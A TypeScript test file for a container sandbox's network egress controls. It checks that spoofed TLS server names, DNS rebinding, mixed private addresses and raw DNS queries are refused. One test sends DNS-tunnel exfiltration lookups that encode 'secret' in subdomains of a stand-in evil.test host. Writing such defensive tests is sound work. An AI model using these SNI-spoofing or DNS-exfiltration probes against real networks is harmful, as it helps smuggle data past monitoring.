import { once } from 'node:events';
import type { AddressInfo, Socket } from 'node:net';
import { createServer, type Server } from 'node:tls';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { helloMessage, inRecords } from '../../src/egress/raw/client-hello.fixture.ts';
import { DnsServer } from '../../src/egress/names/dns-server.fixture.ts';
import { Network } from '../../src/egress/outside/network.ts';
import { TestAuthority } from '../../src/egress/tls.fixture.ts';
import { DockerEngine } from '../../src/engine/docker/docker-engine.ts';
import { readEntries } from '../../src/journal/read.ts';
import { Runner, type Run } from '../../src/runner.ts';
import { Bench, smallPolicy } from '../fixtures/bench.ts';
import { underEachRuntime } from './fixtures/host.ts';

/**
 * What an attacker inside tries with names: to be let through to another host than the one that was asked for, to be led to
 * an address that is not meant, to be heard by a resolver. Asserted at the server and at the resolver outside.
 */
const facts = await (await DockerEngine.connect()).describe();

underEachRuntime(facts, (runtime) => {
  let bench: Bench;
  let runner: Runner;
  let run: Run;
  let dns: DnsServer;
  let server: Server;
  let authority: TestAuthority;
  let port = 0;
  let calls = 0;
  /** Addresses that somebody connected to, in order; and the names that TLS asked for there. */
  const connected: string[] = [];
  const named: unknown[] = [];

  const zone: Readonly<Record<string, (times: number) => readonly string[] | 'NXDOMAIN'>> = {
    'raw.test': () => ['127.0.0.2'],
    'moving.test': (times) => [times === 0 ? '127.0.0.2' : '127.0.0.1'],
    'mixed.test': () => ['127.0.0.2', '10.0.0.1'],
    'closed.test': () => ['127.0.0.2'],
  };

  beforeAll(async () => {
    authority = new TestAuthority();
    server = createServer(authority.issue(...Object.keys(zone)), (socket) => {
      named.push(socket.servername);
      socket.on('error', () => undefined);
      socket.end('hello from outside\n');
    });
    server.on('connection', (socket: Socket) => connected.push(socket.localAddress ?? '?'));
    server.on('tlsClientError', () => undefined);
    server.listen(0, '0.0.0.0');
    await once(server, 'listening');
    port = (server.address() as AddressInfo).port;
    const answer = (name: string, type: string, times: number) =>
      type === 'A' ? (zone[name]?.(times) ?? 'NXDOMAIN') : zone[name] === undefined ? 'NXDOMAIN' : [];
    [dns, bench] = await Promise.all([new DnsServer(answer).open(), Bench.make()]);
    const network = new Network({ resolvers: [dns.address], ca: [authority.pem] });
    runner = await Runner.create(bench.engine, bench.dataDir, { network });
    run = await runner.open({
      policy: smallPolicy(`runtime: ${runtime}\negress:
  use: [web]
  profiles:
    web:
      - id: raw
        host: [raw.test, moving.test, mixed.test, gone.test]
        ports: [${port}]
        tls: pass_through
        addresses: [127.0.0.2/32]
      - { id: closed, host: [closed.test], ports: [1], tls: pass_through, addresses: [127.0.0.2/32] }
`),
    });
  });

  afterAll(async () => {
    await run.close();
    await runner.close();
    await bench.close();
    server.close();
    dns.close();
    authority.remove();
  });

  beforeEach(() => {
    connected.length = 0;
    named.length = 0;
    dns.asked.length = 0;
  });

  async function python(script: string): Promise<string> {
    calls += 1;
    const { text } = await run.call(`c${calls}`, { tool: 'exec', script: `python3 - <<'END'\n${script}\nEND` });
    return text;
  }

  /** A client that sends these bytes first, whatever they say, and shows what comes back. */
  function sending(host: string, bytes: Buffer): Promise<string> {
    return python(`import socket
s = socket.create_connection(('${host}', ${port}), 10)
s.sendall(bytes.fromhex('${bytes.toString('hex')}'))
got = b''
try:
    while chunk := s.recv(100): got += chunk
except ConnectionResetError: got += b'reset'
print(got.hex())`);
  }

  /** An honest client. */
  function greeting(host: string, serverName = host): Promise<string> {
    return python(`import socket, ssl
context = ssl.create_default_context()
context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
try:
    s = context.wrap_socket(socket.create_connection(('${host}', ${port}), 10), server_hostname='${serverName}')
    print(s.recv(100).decode())
except Exception as error: print('failed:', error)`);
  }

  async function lastEnd(): Promise<unknown> {
    let last: unknown;
    for await (const entry of readEntries(run.dir.journal)) if (entry.type === 'egress.ended') last = entry.data;
    return last;
  }

  const accessDenied = '15030300020231';

  describe('another host than the one that was asked for', () => {
    test('the honest client is let through, to the host that it names', async () => {
      expect(await greeting('raw.test')).toContain('hello from outside');
      expect(connected).toEqual(['127.0.0.2']);
      expect(named).toEqual(['raw.test']);
    });

    test.each([
      ['another name', inRecords(helloMessage({ name: 'evil.test' }))],
      ['another name that the policy lists too', inRecords(helloMessage({ name: 'moving.test' }))],
      ['no name', inRecords(helloMessage({ name: null }))],
      ['a name under ECH', inRecords(helloMessage({ name: 'raw.test', extensions: [[0xfe0d, Buffer.alloc(64)]] }))],
      ['a name in pieces of one byte', inRecords(helloMessage({ name: 'evil.test' }), 1)],
      ['no TLS at all', Buffer.from('GET / HTTP/1.1\r\nHost: raw.test\r\n\r\n')],
    ])('%s: not resolved, not dialled, told at once', async (_, bytes) => {
      expect(await sending('raw.test', bytes)).toContain(accessDenied);
      expect(connected).toEqual([]);
      expect(dns.asked).toEqual([]);
      expect(await lastEnd()).toMatchObject({ result: 'denied', sentBytes: 0 });
    });
  });

  describe('another address than the one that was checked', () => {
    test('a name that moves is dialled where it was when it was checked, and refused where it went', async () => {
      expect(await greeting('moving.test')).toContain('hello from outside');
      expect(connected).toEqual(['127.0.0.2']);
      expect(await greeting('moving.test')).toMatch(/failed: .*access.denied/i);
      expect(connected).toEqual(['127.0.0.2']);
      expect(await lastEnd()).toMatchObject({ result: 'denied' });
    });

    test('one private address among the answers is enough', async () => {
      expect(await greeting('mixed.test')).toMatch(/failed: .*access.denied/i);
      expect(connected).toEqual([]);
    });

    test('what cannot be resolved, and what refuses, is neither denied nor the same to the record', async () => {
      expect(await greeting('gone.test')).not.toMatch(/access.denied/i);
      expect(await lastEnd()).toMatchObject({ result: 'unresolvable' });
      await python(`import socket, ssl
try: ssl.create_default_context().wrap_socket(socket.create_connection(('closed.test', 1), 10), server_hostname='closed.test')
except OSError as error: print(error)`);
      expect(await lastEnd()).toMatchObject({ result: 'refused' });
    });
  });

  describe('a resolver that can be talked to', () => {
    test('names that no rule lists do not exist at once, and nobody outside hears of them', async () => {
      const said = await python(`import socket, time
start = time.monotonic()
for n in range(50):
    try: socket.getaddrinfo(f'{"c2VjcmV0" * 5}-{n}.evil.test', 443); print('resolved')
    except socket.gaierror as error:
        if error.errno != socket.EAI_NONAME: print(error)
print('slow' if time.monotonic() - start > 5 else 'quick')`);
      expect(said).toMatch(/^quick$/m);
      expect(said).not.toMatch(/resolved|Errno/);
      expect(dns.asked).toEqual([]);
    });

    test('whatever is asked of it, over UDP and TCP, stays with it', async () => {
      const said = await python(`import socket, struct
def ask(name, kind, tcp=False, questions=1):
    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0'
    message = struct.pack('>6H', 7, 0x100, questions, 0, 0, 0) + (labels + struct.pack('>2H', kind, 1)) * questions
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(5); s.connect(('127.0.0.1', 53))
    s.sendall((struct.pack('>H', len(message)) if tcp else b'') + message)
    answer = s.recv(600)[2 if tcp else 0:]
    return answer[3] & 15, struct.unpack('>H', answer[6:8])[0]
print([ask('raw.test', kind) for kind in (1, 28, 65, 64, 16, 15, 255)])
print([ask('evil.test', kind) for kind in (1, 28, 16, 255)])
print(ask('raw.test', 1, tcp=True), ask('evil.test', 16, tcp=True), ask('raw.test', 1, questions=2))`);
      expect(said).toContain('[(0, 1), (0, 0), (0, 0), (0, 0), (0, 0), (0, 0), (0, 0)]');
      expect(said).toContain('[(3, 0), (3, 0), (3, 0), (3, 0)]');
      expect(said).toContain('(0, 1) (3, 0) (1, 0)');
      expect(dns.asked).toEqual([]);
    });
  });
});
